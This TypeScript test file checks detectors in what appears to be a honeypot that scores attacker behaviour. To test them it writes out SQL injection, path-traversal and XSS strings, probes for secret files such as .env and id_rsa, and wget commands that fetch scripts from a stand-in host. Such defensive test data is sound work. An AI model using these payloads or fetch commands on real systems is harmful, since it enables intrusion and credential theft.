import { assert, property, record, string, constantFrom, nat, array } from 'fast-check';
import { describe, expect, it } from 'vitest';
import { judged, type Judged } from '../../test/support/read-input.ts';
import type { Detector } from '../core/detector.ts';
import type { Fact, Observation, WebAccessFact } from '../core/observation.ts';
import { exploitRequest } from './exploit-request.ts';
import { payloadDelivery } from './payload-delivery.ts';
import { scannerOf } from './scanner-agent.ts';
import { webEnumeration } from './web-enumeration.ts';
import { webGuessing } from './web-guessing.ts';

const suspicious = Math.log(99);
const malicious = Math.log(9900);
const source = '203.0.113.9';
const all: readonly Detector[] = [exploitRequest, webEnumeration, webGuessing, payloadDelivery];

const observe = (fact: Fact, index = 0, session = ''): Observation => ({
  id: `00000000-0000-7000-8000-${String(index).padStart(12, '0')}`,
  at: 1_700_000_000_000 + index * 1000,
  sensor: 'test',
  sequence: index + 1,
  source,
  sourcePort: 40_000,
  destination: '198.51.100.1',
  destinationPort: 80,
  transport: 'tcp',
  session,
  spoofable: false,
  ...fact,
});

const visit = (path: string, status = 404, more: Partial<WebAccessFact> = {}): Fact => ({
  kind: 'web-access',
  method: 'GET',
  path,
  status,
  userAgent: 'Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0',
  referrer: '',
  ...more,
});

function judge(facts: readonly Fact[], detectors: readonly Detector[] = all): Judged {
  const found = judged(
    facts.map((fact, index) => observe(fact, index)),
    detectors,
  ).get(source);
  return found ?? { score: 0, behaviors: new Set() };
}

const request = (path: string, body = ''): Fact => ({
  kind: 'request',
  service: 'http',
  method: body === '' ? 'GET' : 'POST',
  path,
  headers: [['Host', '198.51.100.1']],
  body,
  status: 404,
});

const exploit = (cves: readonly string[]): Fact => ({
  kind: 'exploit',
  service: 'http',
  class: 'rce',
  name: 'some-lure',
  cves,
  technique: 'T1190',
  detail: 'GET /x;wget http://192.0.2.7/a.sh',
});

describe('exploit requests', () => {
  it('one generic attempt in an access log makes its source suspicious, two different ones malicious', () => {
    const one = judge([visit("/a?id=1' union select 1,2,3--", 200)], [exploitRequest]);
    expect(one.score).toBeGreaterThanOrEqual(suspicious);
    expect(one.score).toBeLessThan(malicious);
    expect(one.behaviors).toContain('exploit:sqli');
    const two = judge(
      [visit("/a?id=1' union select 1,2,3--", 200), visit('/b?f=../../../../etc/passwd', 200)],
      [exploitRequest],
    );
    expect(two.score).toBeGreaterThanOrEqual(malicious);
  });

  it('the same request again adds little', () => {
    const facts = Array.from({ length: 6 }, () => visit("/a?id=1' union select 1,2,3--", 200));
    expect(judge(facts, [exploitRequest]).score).toBeLessThan(malicious);
  });

  it('a known weakness at a decoy is a block by itself', () => {
    const held = judge([exploit(['CVE-2024-0001'])], [exploitRequest]);
    expect(held.score).toBeGreaterThanOrEqual(malicious);
    expect(held.behaviors).toContain('exploit:rce');
  });

  it.each([
    ['request first', [request("/a?id=1' union select 1,2,3--"), exploit([])]],
    ['exploit first', [exploit([]), request("/a?id=1' union select 1,2,3--")]],
  ])('the two facts of one request count once (%s)', (_, facts) => {
    const observations = facts.map((fact, index) => observe(fact, index, 'one-session'));
    const paired = judged(observations, [exploitRequest]).get(source);
    expect(paired?.score).toBeLessThan(malicious);
    const apart = judged(
      facts.map((fact, index) => observe(fact, index, `session-${index}`)),
      [exploitRequest],
    ).get(source);
    expect(apart?.score).toBeGreaterThan(malicious);
  });

  it('names all classes of a request but weighs it once', () => {
    const both = judge([visit("/?a=' or 1=1--&b=<script>x()</script>", 200)], [exploitRequest]);
    expect([...both.behaviors]).toEqual(expect.arrayContaining(['exploit:sqli', 'exploit:xss']));
    expect(both.score).toBeLessThan(malicious);
  });

  it('tells the tools that name themselves from crawlers, libraries and monitors', () => {
    expect(scannerOf('sqlmap/1.7.2#stable (https://sqlmap.org)')).toBe('sqlmap');
    expect(scannerOf('Mozilla/5.0 zgrab/0.x')).toBe('zgrab');
    for (const agent of [
      'curl/8',
      'Googlebot/2.1',
      'UptimeRobot/2.0',
      'python-requests/2.31',
      'Go-http-client/1.1',
      '',
    ]) {
      expect(scannerOf(agent), agent).toBeNull();
    }
    expect(judge([visit('/', 200, { userAgent: 'sqlmap/1.7' })], [exploitRequest]).behaviors).toContain(
      'enumeration:web',
    );
  });
});

describe('searches of a web site', () => {
  it('finds a search for secrets in four requests', () => {
    const held = judge(
      ['/.env', '/.git/config', '/wp-config.php.bak', '/id_rsa'].map((path) => visit(path)),
      [webEnumeration],
    );
    expect(held.score).toBeGreaterThanOrEqual(malicious);
    expect(held.behaviors).toContain('enumeration:web');
  });

  it('finds a list of words, at one a second', () => {
    const facts = Array.from({ length: 40 }, (_, index) => visit(`/word${index}`));
    const held = judge(facts, [webEnumeration]);
    expect(held.score).toBeGreaterThanOrEqual(malicious);
    expect(held.behaviors).toContain('enumeration:web');
  });

  it('leaves the visitor of a broken site alone', () => {
    const facts = Array.from({ length: 60 }, (_, index) => [
      visit(`/page${index % 7}`, 200),
      visit(`/img/missing${index}.png`, 404, { referrer: 'https://www.example.com/page' }),
      visit(`/theme/lost${index}.css`, 404),
      visit('/favicon.ico', 404),
      visit(`/old/article${index}`, 404, { referrer: 'https://www.example.com/' }),
    ]).flat();
    const held = judge(facts, [webEnumeration]);
    expect(held.score).toBeLessThan(suspicious);
    expect(held.behaviors).not.toContain('enumeration:web');
  });

  it('leaves a crawler with one stale link in three alone', () => {
    const facts = Array.from({ length: 300 }, (_, index) =>
      visit(`/archive/${index}`, index % 3 === 0 ? 404 : 200),
    );
    const held = judge(facts, [webEnumeration]);
    expect(held.score).toBeLessThan(suspicious);
  });

  it('leaves a feed reader alone whose feed is gone', () => {
    const facts = Array.from({ length: 500 }, () => visit('/blog/feed', 404));
    expect(judge(facts, [webEnumeration]).score).toBe(0);
  });

  it('finds requests for an open proxy and bytes of other protocols', () => {
    expect(
      judge(
        [visit('http://checker.example/', 403), visit('checker.example:443', 405, { method: 'CONNECT' })],
        [webEnumeration],
      ).behaviors,
    ).toContain('enumeration:web');
    const odd = judge([visit('\u0003\u0000\u0000/*\u00e0', 400, { method: '' })], [webEnumeration]);
    expect(odd.score).toBeGreaterThan(0);
    const tls = judge([visit('\u0016\u0003\u0001\u0002', 400, { method: '' })], [webEnumeration]);
    expect(tls.score).toBeLessThan(1);
  });
});

describe('guessing at a web login', () => {
  const post = (status: number, path = '/wp-login.php'): Fact => visit(path, status, { method: 'POST' });

  it('finds refused logins in a row', () => {
    const held = judge(
      Array.from({ length: 8 }, () => post(401, '/login')),
      [webGuessing],
    );
    expect(held.score).toBeGreaterThanOrEqual(malicious);
    expect(held.behaviors).toContain('bruteforce:http');
    expect(
      judge(
        Array.from({ length: 8 }, () => post(200)),
        [webGuessing],
      ).behaviors,
    ).toContain('bruteforce:http');
  });

  it('excuses a person who mistyped three times', () => {
    const held = judge([post(200), post(200), post(200), post(302)], [webGuessing]);
    expect(held.score).toBeCloseTo(0);
    expect(held.behaviors.size).toBe(0);
  });

  it('takes the challenges of basic authentication for what they are', () => {
    const facts = Array.from({ length: 30 }, (_, index) => [
      visit(`/private/${index}`, 401),
      visit(`/private/${index}`, 200),
    ]).flat();
    expect(judge(facts, [webGuessing]).score).toBe(0);
  });
});

describe('deliveries', () => {
  it('a decoy that is told to fetch something comes to a block with its contact', () => {
    const command: Fact = {
      kind: 'command',
      service: 'ssh',
      input: 'wget http://192.0.2.7/x',
      urls: ['http://192.0.2.7/x'],
    };
    const held = judge([command], [payloadDelivery]);
    expect(held.score + Math.log(4)).toBeGreaterThanOrEqual(malicious);
    expect(held.behaviors).toContain('malware:download');
    expect(judge([command, command, command], [payloadDelivery]).score).toBeLessThan(malicious);
  });

  it('weighs a file by the way it came', () => {
    const file = (how: string, bytes = 10): Fact => ({
      kind: 'payload',
      service: 'ssh',
      sha256: 'ab'.repeat(32),
      bytes,
      how,
    });
    expect(judge([file('echo')], [payloadDelivery]).score).toBeGreaterThan(
      judge([file('http-body')], [payloadDelivery]).score,
    );
    expect(judge([file('echo', 0)], [payloadDelivery]).score).toBe(0);
  });

  it('commands without an address say nothing here', () => {
    expect(judge([{ kind: 'command', service: 'ssh', input: 'ls' }], [payloadDelivery]).score).toBe(0);
    expect(judge([exploit([])], [payloadDelivery]).behaviors).toContain('malware:download');
  });
});

it('no access crashes a detector or gives it a weight that is no number', () => {
  const access = record({
    method: constantFrom('GET', 'POST', '', 'CONNECT', '\u0016\u0003'),
    path: string({ unit: 'binary', maxLength: 60 }),
    status: nat(600),
    userAgent: string(),
    referrer: string(),
  });
  assert(
    property(array(access, { maxLength: 20 }), (accesses) => {
      expect(
        judge(accesses.map((fact): Fact => ({ kind: 'web-access', ...fact }))).score,
      ).toBeGreaterThanOrEqual(0);
    }),
  );
});
